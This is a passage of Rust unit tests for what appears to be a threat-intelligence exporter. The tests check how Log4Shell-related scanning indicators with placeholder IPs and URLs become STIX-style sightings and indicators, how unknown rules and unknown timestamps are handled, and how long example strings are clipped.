    fn unknown_times_leave_sighting_bounds_out() {
        let mut i = ind(
            IndicatorRole::Source,
            Observable::ip([192, 0, 2, 7].into()),
            &["log4shell-recon"],
            1,
        );
        i.first_seen = None;
        i.last_seen = None;
        let b = bundle(&input(vec![i]));
        let s = objects(&b, "sighting");
        assert!(s[0].get("first_seen").is_none() && s[0].get("last_seen").is_none());
        assert_eq!(
            objects(&b, "indicator")[0]["valid_from"],
            "2021-12-12T00:00:00.000Z"
        );
    }

    #[test]
    fn unknown_rules_are_labels_only() {
        let i = ind(
            IndicatorRole::Callback,
            Observable::url("http://x.example/"),
            &["some-future-rule"],
            1,
        );
        let b = bundle(&input(vec![i]));
        assert!(objects(&b, "vulnerability").is_empty());
        assert!(objects(&b, "relationship").is_empty());
        assert!(
            objects(&b, "indicator")[0]
                .get("external_references")
                .is_none()
        );
        assert!(
            objects(&b, "indicator")[0]["name"]
                .as_str()
                .unwrap_or_default()
                .starts_with("Exploit callback URL")
        );
    }

    #[test]
    fn long_examples_are_clipped() {
        let mut i = ind(
            IndicatorRole::Callback,
            Observable::url("http://x.example/"),
            &["log4shell-jndi"],
            1,
        );
        i.example = "é".repeat(EXAMPLE_MAX + 10);
        let d = description(&i, &families_of(&i.rules), "s");
        assert!(d.ends_with(&format!("{}…", "é".repeat(EXAMPLE_MAX))));
    }
}
